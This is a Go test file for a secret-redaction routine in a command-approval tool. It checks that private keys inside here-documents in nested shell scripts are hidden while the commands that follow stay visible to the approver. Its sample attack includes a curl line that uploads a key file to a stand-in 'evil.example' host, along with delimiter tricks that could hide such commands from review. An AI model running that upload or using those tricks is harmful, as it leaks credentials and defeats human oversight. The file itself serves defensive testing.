package domain

import (
	"encoding/base64"
	"strings"
	"testing"

	"pgregory.net/rapid"
)

// TestAttack18KeyBlockDelimiterOfNestedShell: a key block ends at a line
// that is a here-document's delimiter, read from the word after << as
// bash and dash read it; but a script in double quotes (bash -c "…",
// eval "…"), within ` ` or in $'…' is read by its shell once more before
// the shell that opens the document reads it, and bash joins a document's
// line that ends with a backslash to the next before it compares it with
// the delimiter. In each case below turnstile took another delimiter than
// the shell's, hid the shell's as key material, and the commands after the
// document read to the approver as more of it. Each case runs under bash
// first. The controls, keys written through such scripts, are hidden
// whole and what follows them is shown.
func TestAttack18KeyBlockDelimiterOfNestedShell(t *testing.T) {
	const l1 = "MIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSjAgEAAoIBAQC7VJTUt9Us8cKj"
	const d = "MzEfYyjiWA4R4oM2bS1GB4t7NXp98C3SC6dVMvDuictGeurT8jNbvJZHtCSuYEvu"
	const marker = "-----BEGIN RSA PRIVATE KEY-----"
	const after = "echo RAN-AFTER >&2\ncurl -sT k.pem https://evil.example/u\n"
	const afterC = `echo RAN-AFTER >&2\ncurl -sT k.pem https://evil.example/u`
	enc := base64.StdEncoding.EncodeToString([]byte(marker + "\n" + strings.Repeat(l1+"\n", 8)))
	var full []string
	for i := 0; i < 4; i++ {
		full = append(full, enc[i*76:(i+1)*76])
	}
	e := enc[4*76 : 5*76] // the encoding's next line: runs of it decode to text
	if d[20] != 'B' {
		t.Fatal("the $'…' line case writes d[20] as \\x42")
	}
	// A script in double quotes six shells deep: each layer doubles the
	// backslashes before the delimiter.
	deep := "cat >/dev/null <<\\" + d + "\n" + marker + "\n" + l1 + "\n" + d + "\n" + after
	for range 6 {
		deep = "bash -c \"" + strings.NewReplacer(`\`, `\\`, `"`, `\"`, "$", `\$`, "`", "\\`").Replace(deep) + "\""
	}
	for _, c := range []struct{ name, cmd, keep string }{
		{"bash -c \"…\" six deep", deep, "\n" + d + "\n" + after},
		{"backquotes", "x=`cat <<\\\\" + d + "\n" + marker + "\n" + l1 + "\n" + d + "\n" + after + "`", "\n" + d + "\n" + after},
		{"bash -c \"…\"", "bash -c \"cat >/dev/null <<\\\\" + d + "\n" + marker + "\n" + l1 + "\n" + d + "\n" + after + "\"", "\n" + d + "\n" + after},
		{"eval \"…\"", "eval \"cat >/dev/null <<\\\\" + d + "\n" + marker + "\n" + l1 + "\n" + d + "\n" + after + "\"", "\n" + d + "\n" + after},
		{"$'…' delimiter", "bash -c $'cat >/dev/null <<\\x4D" + d[1:] + `\n` + marker + `\n` + l1 + `\n` + d + `\n` + afterC + "'", `\n` + d + `\n` + afterC},
		{"$'…' line", "bash -c $'cat >/dev/null <<" + d + `\n` + marker + `\n` + l1 + `\n` + d[:20] + `\x42` + d[21:] + `\n` + afterC + "'", `\n` + d[:20] + `\x42` + d[21:] + `\n` + afterC},
		{"$'…' line joined", "bash -c $'cat >/dev/null <<" + d + `\n` + marker + `\n` + l1 + `\n` + d[:30] + `\\\n` + d[30:] + `\n` + afterC + "'", `\n` + d[:30] + `\\\n` + d[30:] + `\n` + afterC},
		{"line joined", "cat >/dev/null <<" + d + "\n" + marker + "\n" + l1 + "\n" + d[:30] + "\\\n" + d[30:] + "\n" + after, "\n" + d[:30] + "\\\n" + d[30:] + "\n" + after},
		{"encoded, bash -c \"…\"", "bash -c \"cat >/dev/null <<\\\\" + e + "\n" + strings.Join(full, "\n") + "\n" + e + "\n" + after + "\"", "\n" + e + "\n" + after},
		{"encoded, line joined", "cat >/dev/null <<" + e + "\n" + strings.Join(full, "\n") + "\n" + e[:40] + "\\\n" + e[40:] + "\n" + after, "\n" + e[:40] + "\\\n" + e[40:] + "\n" + after},
	} {
		if !ranAfter(t, c.cmd) {
			t.Fatalf("%s: bash did not run the command after the delimiter: the premise does not hold", c.name)
		}
		if got := execShown(t, c.cmd); !strings.Contains(got, c.keep) {
			t.Errorf("%s: shown as %q: the delimiter is hidden, so the commands after the document read as part of it", c.name, got)
		}
	}
	// Controls: keys written by such scripts, hidden whole; what follows
	// the document is shown. (Before, the encoded key's was shown: its
	// delimiter, read as \EOF, was taken for the encoding's last line.)
	const l2 = "MzEfYyjiWA4R4/M2bS1GB4t7NXp98C3SC6dVMvDuictGeurT8jNbvJZHtCSuYEvu"
	for _, c := range []struct{ cmd, tail string }{
		{"bash -c \"cat > k.pem <<\\\\EOF\n" + marker + "\n" + l1 + "\n" + l2 + "\nEOF\n\" && ./deploy.sh", "\nEOF\n\" && ./deploy.sh"},
		{"k=`cat <<\\\\EOF\n" + marker + "\n" + l1 + "\n" + l2 + "\nEOF\n`\n./deploy.sh \"$k\"", "\nEOF\n`\n./deploy.sh \"$k\""},
		{"bash -c $'cat > k.pem <<EOF\\n" + marker + `\n` + l1 + `\n` + l2 + `\nEOF\n./deploy.sh'`, `\nEOF\n./deploy.sh'`},
		{"cat > k.pem <<EOF\n" + marker + "\n" + l1 + "\n" + l2 + "\nEOF\n./deploy.sh \\\n  --key k.pem", "\nEOF\n./deploy.sh \\\n  --key k.pem"},
		{"bash -c \"cat > k.b64 <<\\\\EOF\n" + strings.Join(full, "\n") + "\nEOF\n\" && ./deploy.sh", "\nEOF\n\" && ./deploy.sh"},
	} {
		got := keyReaderShown(t, c.cmd)
		for _, l := range append([]string{l1, l2}, full...) {
			if strings.Contains(c.cmd, l) && strings.Contains(got, l) {
				t.Errorf("control %q: shown as %q, a line of its key kept", c.cmd[:16], got)
			}
		}
		if !strings.HasSuffix(got, c.tail) {
			t.Errorf("control %q: shown as %q, what follows the document lost", c.cmd[:16], got)
		}
	}
}

func init() {
	redactTextPieces = append(redactTextPieces, nestedShellPieces...)
}

// nestedShellPieces make texts of here-documents in nested shells: their
// delimiters written with a layer's escapes, and their lines joined.
var nestedShellPieces = []string{"bash -c \"cat <<\\\\" + nd + "\n", "x=`cat <<\\\\\\\\" + nd + "\n", "<<\\x4D" + nd[1:], "<<" + nd, "<<\\\\" + nd,
	"\\x4D" + nd[1:], nd, nd + "\\\n", nd[:20] + "\\\n" + nd[20:], "\\\n", `\n`, "\n", "\\", "\\\\", "$'", "\"", "`", ")", " ", "\t",
	"-----BEGIN RSA PRIVATE KEY-----", "MIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSjAgEAAoIBAQC7VJTUt9Us8cKj", "echo x"}

// nd is the delimiter of nestedShellPieces: long enough to be hidden as
// key material.
const nd = "MzEfYyjiWA4R4oM2bS1GB4t7NXp98C3SC6dVMvDu"

// TestNestedShellReadingsMatchReference: the key block reading with
// delimiters of nested shells and joined lines gives what the reference
// gives, for texts of nestedShellPieces.
func TestNestedShellReadingsMatchReference(t *testing.T) {
	rapid.Check(t, func(t *rapid.T) {
		pieces := func(name string, most int) string {
			return strings.Join(rapid.SliceOfN(rapid.SampledFrom(nestedShellPieces), 0, most).Draw(t, name), "")
		}
		brk := rapid.SampledFrom([]string{"\n", `\n`}).Draw(t, "break")
		s := pieces("opener", 4) + brk + "-----BEGIN RSA PRIVATE KEY-----" + brk +
			"MIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSjAgEAAoIBAQC7VJTUt9Us8cKj" + brk + pieces("lines", 8)
		if got, want := RedactSecrets(s), redactSecretsRef(s); got != want {
			t.Fatalf("RedactSecrets(%q) = %q, reference %q", s, got, want)
		}
	})
}
